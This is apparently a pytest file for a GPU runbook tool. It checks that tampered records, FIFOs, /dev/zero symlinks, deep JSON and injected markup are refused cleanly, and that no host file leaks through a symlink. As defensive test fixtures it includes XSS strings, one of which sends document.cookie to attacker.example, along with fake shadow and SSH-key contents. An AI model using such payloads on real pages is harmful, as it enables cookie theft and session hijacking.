"""Records read back that were not written by this runbook: every reader (verify, replay, the Lab, the fleet
report) gets one RunSetupError that says what is wrong, never a traceback, a hang or a read without end."""

import copy
import json
import os
import shutil
from pathlib import Path
from xml.etree import ElementTree

import pytest

from runbook import files, fleet, record, ui, verify
from runbook.catalogue import STEPS
from runbook.errors import RunSetupError
from runbook.fleet import page as fleet_page
from runbook.present import junit, lab, path_overview
from runbook.present import report as render
from runbook.record import bundle
from runbook.results import MIME_TYPE, CheckResult
from tests.utils.cli import gpu_runbook
from tests.utils.paths import REPO

H200 = REPO / "records" / "h200-2026-11-28"


def hostile(tmp_path, change) -> dict:
    """The H200 record's summary with ``change`` made to it, written to tmp_path/summary.json."""
    summary = json.loads((H200 / "summary.json").read_text())
    change(summary)
    (tmp_path / "summary.json").write_text(json.dumps(summary))
    return summary


def first_check(**fields):
    return lambda s: s["checks"][0].update(fields)


@pytest.mark.parametrize(
    "change",
    [
        lambda s: s.update(counts="3 pass"),
        lambda s: s.update(counts={"pass": "3"}),
        lambda s: s.update(counts={"pass": -1}),
        lambda s: s.update(host=5),
        lambda s: s.pop("host"),
        lambda s: s.pop("runbook_version"),
        lambda s: s.update(finished=20261128),
        lambda s: s.update(started=["today"]),
        lambda s: s.update(verdict_reason={"why": 1}),
        lambda s: s.update(lang=1),
        lambda s: s.update(steps=[["01-preflight"]]),
        first_check(duration_s="fast"),
        first_check(duration_s=float("nan")),
        first_check(notebook=3),
        first_check(skip_kind=[]),
        lambda s: s["notebooks"][0].update(status=1),
        lambda s: s["notebooks"][0].update(error=["x"]),
        lambda s: s["notebooks"][0].update(status="finished"),
        lambda s: s["notebooks"][0].update(worst="<b>evil</b>"),
    ],
    ids=lambda c: "",
)
def test_a_summary_with_fields_of_the_wrong_type_is_not_a_record(tmp_path, change):
    hostile(tmp_path, change)
    with pytest.raises(RunSetupError, match="is not a record this runbook wrote"):
        record.read(tmp_path)


def test_a_summary_nested_too_deep_for_the_parser_is_not_a_record(tmp_path):
    (tmp_path / "summary.json").write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(RunSetupError, match="is not JSON"):
        record.read(tmp_path)


def test_a_summary_that_is_a_device_or_a_fifo_is_refused_without_reading_it(tmp_path):
    (tmp_path / "zero").mkdir()
    os.symlink("/dev/zero", tmp_path / "zero" / "summary.json")  # read to its end, it never ends
    (tmp_path / "fifo").mkdir()
    os.mkfifo(tmp_path / "fifo" / "summary.json")  # opened for reading, it blocks until a writer comes
    for folder in ("zero", "fifo"):
        with pytest.raises(RunSetupError, match="not a regular file"):
            record.read(tmp_path / folder)


def test_a_summary_larger_than_any_record_is_refused(tmp_path, monkeypatch):
    shutil.copy(H200 / "summary.json", tmp_path / "summary.json")
    monkeypatch.setattr(files, "MAX_READ", 1024)
    with pytest.raises(RunSetupError, match="larger than"):
        record.read(tmp_path)


def test_verify_of_a_summary_that_never_ends_exits_2_with_one_line(tmp_path):
    os.symlink("/dev/zero", tmp_path / "summary.json")
    proc = gpu_runbook("verify", str(tmp_path), "--out", str(tmp_path / "again"), timeout=60)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and "not a regular file" in proc.stderr, proc.stderr
    assert not (tmp_path / "again").exists(), "verify started a run from a record it could not read"


def every_reader(summary: dict) -> None:
    """What reads a record's checks back: the report page and texts, the Lab's cell views, verify's facts,
    the summary's host facts, the fleet report and its JUnit file."""
    checks = [CheckResult.from_dict(c) for c in summary["checks"]]
    render.report_page(summary), render.summary_text(summary), render.summary_html(summary), render.headline(summary)
    render.torch_text(checks), render.gpus_text(checks), record.host_facts(checks)
    verify.fact_drift(summary, summary), verify.gpus_of(summary)
    host = fleet.Host("h", "ran", "", [], summary, checks)
    fleet.text([host]), fleet_page.page([host], fleet.summary([host])), junit.xml(host)
    states = record.step_states(summary, STEPS)
    path_overview.overview_html(states, record.next_step_of(states), {}, {}, ui.replayed_note(summary))


def data_paths(value, at=()):
    """Every key of a check's data (and, in a list, its first item), depth first."""
    children = value.items() if isinstance(value, dict) else enumerate(value[:1]) if isinstance(value, list) else ()
    for key, child in children:
        yield (*at, key)
        yield from data_paths(child, (*at, key))


DELETED = object()
WRONG = (DELETED, None, 1, -1.5, True, "x", [1], [None], [{"name": 1}], {"a": 1})


def test_every_record_read_accepts_is_drawn_by_every_reader():
    """Each value of each check's data in the H200 record, removed or replaced by one of another type: the
    record is refused when read, or every reader draws it; none fails half-way."""
    base = json.loads((H200 / "summary.json").read_text())
    broken = []
    for i, check in enumerate(base["checks"]):
        for path in data_paths(check.get("data", {})):
            for wrong in WRONG:
                summary = copy.deepcopy(base)
                parent = summary["checks"][i]["data"]
                for key in path[:-1]:
                    parent = parent[key]
                if wrong is DELETED:
                    parent.pop(path[-1]) if isinstance(parent, dict) else parent.clear()
                else:
                    parent[path[-1]] = wrong
                if record.problems(summary):
                    continue
                try:
                    every_reader(summary)
                except Exception as e:
                    broken.append(f"{check['id']} data{list(path)} = {wrong!r}: {type(e).__name__}: {e}")
    assert not broken, "records read accepts that a reader fails on:\n" + "\n".join(broken[:20])


@pytest.mark.parametrize(
    "parameters, says",
    [
        ({"gpu_mode": "evil"}, "gpu_mode"),
        ({"timeout_s": "soon"}, "timeout_s"),
        ({"lang": "../../x"}, "lang"),
    ],
)
def test_verify_refuses_a_records_parameters_it_would_not_take_before_anything_runs(tmp_path, parameters, says):
    hostile(tmp_path, lambda s: s["parameters"].update(parameters))
    with pytest.raises(RunSetupError, match=f"the record's parameters are not this runbook's: parameter '{says}'"):
        verify.verify(tmp_path, tmp_path / "again", log=lambda m: None)
    assert not (tmp_path / "again").exists(), "verify started a run with the record's bad parameter"


def test_a_records_bad_parameter_given_again_on_the_command_line_is_verify_s_own():
    values, _left = verify.observing({"gpu_mode": "evil", "pull": "never"}, {"gpu_mode": "cdi"})
    verify.from_record(values, {"gpu_mode": "cdi"})  # the record's gpu_mode is not used: nothing to refuse
    assert values["gpu_mode"] == "cdi"


@pytest.mark.parametrize(
    "content, says",
    [
        ('{"state": 5}', "is not what the playbook writes"),
        ('{"state": "<script>alert(1)</script>"}', "is not what the playbook writes"),
        ('{"state": "broken", "message": 7}', "is not what the playbook writes"),
        ('{"state": "broken", "groups": [1, {"a": 1}]}', "is not what the playbook writes"),
        ("[" * 100_000 + "]" * 100_000, "nests objects or lists too deep"),
        (None, "not a regular file"),  # a symlink to /dev/zero
    ],
)
def test_fleet_report_of_a_hostile_fleet_json_reports_that_host_broken_with_why(tmp_path, content, says):
    """The host is broken, its line says why, and the hosts beside it are reported as ever (exit 1)."""
    host = tmp_path / "fleet" / "gpu-01"
    host.mkdir(parents=True)
    if content is None:
        os.symlink("/dev/zero", host / "fleet.json")
    else:
        (host / "fleet.json").write_text(content)
    shutil.copytree(REPO / "records" / "h100x1-2026-12-07-toolkit", tmp_path / "fleet" / "gpu-02")
    proc = gpu_runbook("fleet-report", str(tmp_path / "fleet"), "--out", str(tmp_path / "out"), timeout=60)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    first, second = proc.stdout.splitlines()[:2]
    assert first.split()[:2] == ["gpu-01", "BROKEN"] and says in first, proc.stdout
    assert second.split() == ["gpu-02", "PASS"], proc.stdout
    page = (tmp_path / "out" / "fleet-report.html").read_text()
    assert "<script>alert" not in page, "a host's file wrote markup into the fleet page"


def test_the_bundle_takes_no_file_of_the_host_through_a_records_symlink(tmp_path):
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$not-for-a-bundle:19000:0:99999:7:::\n")
    (tmp_path / "record").mkdir()
    os.symlink(secret, tmp_path / "record" / "summary.json")
    shutil.copy(H200 / "report.html", tmp_path / "record" / "report.html")
    files = bundle.last_record(str(tmp_path / "record"))
    assert "summary.json" not in files and b"not-for-a-bundle" not in b"".join(files.values()), files.keys()
    assert b"symbolic link" in files["summary.json.refused.txt"]
    assert files["report.html"] == (H200 / "report.html").read_bytes()


def test_the_bundle_does_not_hang_on_a_daemon_json_that_is_a_fifo_or_a_device(tmp_path):
    (tmp_path / "etc/docker").mkdir(parents=True)
    os.mkfifo(tmp_path / "etc/docker/daemon.json")
    os.symlink("/dev/zero", tmp_path / "etc/docker/zero.json")
    for path in ("/etc/docker/daemon.json", "/etc/docker/zero.json"):
        with pytest.raises(bundle.Absent, match="not a regular file"):
            bundle.read(str(tmp_path), path)


def a_record_with(tmp_path, **links) -> Path:
    """A copy of the H200 record with, beside its files, a symbolic link per keyword (name=target)."""
    folder = tmp_path / "h200"
    shutil.copytree(H200, folder)
    for name, target in links.items():
        os.symlink(target, folder / name)
    return folder


def test_lab_replay_copies_the_records_own_files_and_no_file_a_link_points_to(tmp_path):
    secret = tmp_path / "secrets"
    secret.mkdir()
    (secret / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY----- not-for-the-class\n")
    folder = a_record_with(tmp_path, **{"key.ipynb": secret / "id_rsa", "home": secret})
    ws = lab.prepare(tmp_path / "ws", str(folder))
    copied = tmp_path / "ws" / ws.replay
    assert sorted(p.name for p in copied.iterdir()) == sorted(p.name for p in H200.iterdir()), list(copied.iterdir())
    assert (copied / "summary.json").read_bytes() == (H200 / "summary.json").read_bytes()


def test_lab_replay_of_a_record_holding_a_device_or_a_fifo_does_not_hang(tmp_path):
    folder = a_record_with(tmp_path, **{"zero.ipynb": "/dev/zero"})
    os.mkfifo(folder / "pipe.ipynb")
    ws = lab.prepare(tmp_path / "ws", str(folder))
    assert not {"zero.ipynb", "pipe.ipynb"} & {p.name for p in (tmp_path / "ws" / ws.replay).iterdir()}


def executed(path, checks) -> None:
    """A notebook as a run leaves it, one cell showing ``checks`` (dicts, as the output of type MIME_TYPE holds
    them)."""
    output = {"output_type": "display_data", "metadata": {}, "data": {MIME_TYPE: {"checks": checks}}}
    cell = {"cell_type": "code", "source": "", "metadata": {}, "outputs": [output], "execution_count": 1}
    path.write_text(json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))


NOT_NOTEBOOKS = {
    "not JSON": lambda p: p.write_text("{ not json"),
    "a list": lambda p: p.write_text("[]"),
    "cells an object": lambda p: p.write_text('{"cells": {}}'),
    "too deep": lambda p: p.write_text("[" * 100_000 + "]" * 100_000),
    "/dev/zero": lambda p: os.symlink("/dev/zero", p),
    "a FIFO": lambda p: os.mkfifo(p),
    "a check of no status": lambda p: executed(p, [{"id": "host.os", "status": "great"}]),
    "checks an object": lambda p: executed(p, {"host.os": "pass"}),
    "a check with GPUs as text": lambda p: executed(
        p, [{"id": "host.driver", "title": "", "status": "pass", "detail": "", "data": {"gpus": "H200"}}]
    ),
}


@pytest.mark.parametrize("make", NOT_NOTEBOOKS.values(), ids=NOT_NOTEBOOKS.keys())
def test_a_notebook_that_is_not_one_the_runbook_ran_is_a_failure_of_its_step_and_the_others_are_kept(tmp_path, make):
    executed(tmp_path / "01-preflight.ipynb", [{"id": "host.os", "title": "OS", "status": "pass", "detail": "Ubuntu"}])
    make(tmp_path / "03-gpu-in-container.ipynb")
    summary = record.collect(tmp_path)
    assert [c["id"] for c in summary["checks"]] == ["host.os", "notebook.03-gpu-in-container"]
    stopped = summary["notebooks"][1]
    assert stopped["status"] == "error" and stopped["error"].startswith("it cannot be read back: "), stopped
    summary |= {"parameters": {}, "steps": ["01-preflight", "03-gpu-in-container"]}  # as the runner adds them
    assert not record.problems(summary), record.problems(summary)
    every_reader(summary)


@pytest.mark.parametrize("make", NOT_NOTEBOOKS.values(), ids=NOT_NOTEBOOKS.keys())
def test_verify_compares_no_checked_output_of_a_notebook_that_is_not_one(tmp_path, make):
    make(tmp_path / "03-gpu-in-container.ipynb")
    assert verify.checked_outputs(tmp_path / "03-gpu-in-container.ipynb") == []


def test_verify_reads_a_checked_cell_whatever_form_its_text_has(tmp_path):
    cell = {
        "cell_type": "code",
        "source": ["# NBVAL_CHECK_OUTPUT\n", 3],
        "outputs": [{"output_type": "stream", "text": ["nvidia-smi ran ", {"x": 1}, "in the container\n"]}, 7],
    }
    (tmp_path / "n.ipynb").write_text(json.dumps({"cells": [cell, "not a cell", {"cell_type": "code"}]}))
    assert verify.checked_outputs(tmp_path / "n.ipynb") == ["nvidia-smi ran in the container\n"]


def test_a_summary_holding_a_lone_surrogate_is_not_a_record(tmp_path):
    hostile(tmp_path, first_check(detail="GPU \ud800 lost"))  # json.dumps writes it as \ud800, json.loads reads it
    with pytest.raises(RunSetupError, match="not Unicode"):
        record.read(tmp_path)


def test_junit_of_checks_whose_ids_and_host_hold_what_xml_cannot_is_well_formed():
    summary = json.loads((H200 / "summary.json").read_text())
    for c in summary["checks"]:
        c["id"] += "\x00\x1b[0m"
    summary["host"] = "gpu\x01"
    ElementTree.fromstring(junit.junit_xml(summary))
    checks = [CheckResult.from_dict(c) for c in summary["checks"]]
    ElementTree.fromstring(junit.xml(fleet.Host("gpu-01", "ran", "", [], summary, checks)).encode())


def test_fleet_report_refuses_a_host_folder_not_named_in_utf8_with_one_line(tmp_path):
    host = os.path.join(os.fsencode(tmp_path / "fleet"), b"gpu-\xff")
    os.makedirs(host)
    with open(os.path.join(host, b"fleet.json"), "w") as f:
        f.write('{"state": "unreachable", "message": "no route to host"}')
    proc = gpu_runbook("fleet-report", str(tmp_path / "fleet"), "--out", str(tmp_path / "out"), timeout=60)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and "not named in printable UTF-8 text" in proc.stderr, proc.stderr


def test_the_fleet_report_links_to_a_report_it_draws_not_to_the_one_a_host_sent(tmp_path):
    host = tmp_path / "fleet" / "gpu-01"
    shutil.copytree(H200, host)
    (host / "report.html").write_text("<script>fetch('http://attacker.example/'+document.cookie)</script>")
    proc = gpu_runbook("fleet-report", str(tmp_path / "fleet"), "--out", str(tmp_path / "out"), timeout=120)
    assert proc.returncode in (0, 1) and "Traceback" not in proc.stderr, proc.stderr
    page = (tmp_path / "out" / "fleet-report.html").read_text()
    assert 'href="reports/gpu-01.html"' in page and "gpu-01/report.html" not in page, page
    drawn = (tmp_path / "out" / "reports" / "gpu-01.html").read_text()
    assert "<script" not in drawn and "NVIDIA H200" in drawn


def test_a_parameter_this_runbook_does_not_have_is_left_out_and_said():
    values, left = verify.observing({"gpu_mode": "cdi", "from_a_newer_runbook": "format the disk"})
    assert values == {"gpu_mode": "cdi"}, values
    assert [(x.name, x.why) for x in left] == [("from_a_newer_runbook", "not a parameter of this runbook")], left


def test_every_record_the_runbook_wrote_reads_back():
    """The committed records, the fleet fixtures and a check as a run on this machine's Docker 20.10 wrote it."""
    for path in sorted(REPO.glob("records/*/summary.json")) + sorted(REPO.glob("tests/fixtures/fleet/*/summary.json")):
        record.read(path.parent)
    reached = {  # engine.reachable's data from `gpu-runbook run --only 1` here (Debian's docker.io 20.10.24)
        "engine": "docker",
        "version": "20.10.24+dfsg1",
        "api_version": "1.41",
        "rootless": False,
        "cgroup_driver": "cgroupfs",
        "image_store": "overlay2",
        "storage_driver": "overlay2",
        "cdi_enabled": False,
        "cdi_spec_dirs": [],
        "cdi_devices": [],
        "address": "unix:///var/run/docker.sock",
    }
    check = {"id": "engine.reachable", "title": "Engine", "status": "pass", "detail": "Docker", "data": reached}
    assert record.check_problem(0, check) == ""


XMLS = sorted(REPO.glob("tests/fixtures/field/xml/*.xml")) + sorted(REPO.glob("tests/fixtures/drivers/*.xml"))


@pytest.mark.parametrize("xml", XMLS, ids=lambda p: p.name)
def test_what_real_nvidia_smi_answers_make_the_checks_write_fits_the_shapes_read_back(xml):
    """The driver's and the health checks' data as a run writes it from each captured nvidia-smi -q -x (the
    field corpus: N/A memory, old drivers, MIG): a record made from it is never refused when read back."""
    from runbook.host import health, parse_nvidia_smi_xml
    from runbook.record import shapes
    from runbook.results import run_check

    text = xml.read_text(errors="replace")
    driver = parse_nvidia_smi_xml(text)
    data = {"driver_version": driver.driver_version, "cuda_version": driver.cuda_version}
    data |= {"gpus": [vars(g) for g in driver.gpus], "unknown": driver.unknown}
    assert shapes.data_fits("host.driver", data), data
    for check_id, title, judge in health.CHECKS:
        c = run_check(check_id, title, lambda judge=judge: judge(text))
        assert shapes.data_fits(check_id, c.data), (check_id, c.data)


def test_checks_under_a_notebook_the_runbook_has_not_are_not_a_record(tmp_path):
    """One made-up passing check under a made-up step would count for no essential check: refused instead."""
    made_up = {"id": "host.driver", "title": "t", "status": "pass"}
    hostile(tmp_path, lambda s: s.update(checks=[made_up], notebooks=[{"name": "x.ipynb", "checks": 1}], steps=[]))
    with pytest.raises(RunSetupError, match=r"notebooks\[0\] is not a notebook of the runbook: 'x.ipynb'"):
        record.read(tmp_path)


def test_an_interrupted_runs_incomplete_stands_over_its_failed_check():
    """The runner writes incomplete for an interrupted run whatever its checks say: that record is read so."""
    from runbook.record.checked_verdict import observed

    summary = json.loads((H200 / "summary.json").read_text())  # verdict fail: a check failed
    reason = "interrupted (SIGINT) in 03-gpu-in-container"
    interrupted = {**summary, "verdict": "incomplete", "verdict_reason": reason, "interrupted": {"signal": "SIGINT"}}
    assert observed(interrupted) == ("incomplete", reason)
    forged = {**summary, "verdict": "pass"}
    assert observed(forged)[0] == "fail" and observed(forged)[1].startswith("the record says pass, but its checks")
